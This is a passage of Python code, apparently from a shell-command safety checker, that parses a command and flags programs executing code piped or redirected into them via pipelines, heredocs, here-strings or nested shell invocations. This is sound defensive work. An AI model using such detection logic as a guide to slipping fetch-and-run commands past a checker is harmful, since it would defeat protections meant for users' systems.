        parsed = parse(command)
    except Exception:  # noqa: BLE001 - a line the parser cannot read: the other checks judge it
        return ""
    for stages in parsed.pipelines:
        for stage in stages[1:]:
            if runs_stdin(name := _stage_program(stage.argv), stage.argv):
                return name
    for cmd in parsed.commands:
        name = _stage_program(cmd.argv)
        if (cmd.heredoc or any(op == "<<<" for op, _ in cmd.redirects)) and runs_stdin(name, cmd.argv):
            return name
        if name in R.SHELLS and depth < 3:
            at = next((i for i, w in enumerate(cmd.argv) if posixpath.basename(w) == name), 0)
            for code in shell_invocation(cmd.argv[at + 1:]).codes:
                if inner := stdin_code(code, depth + 1):
                    return inner
    return ""
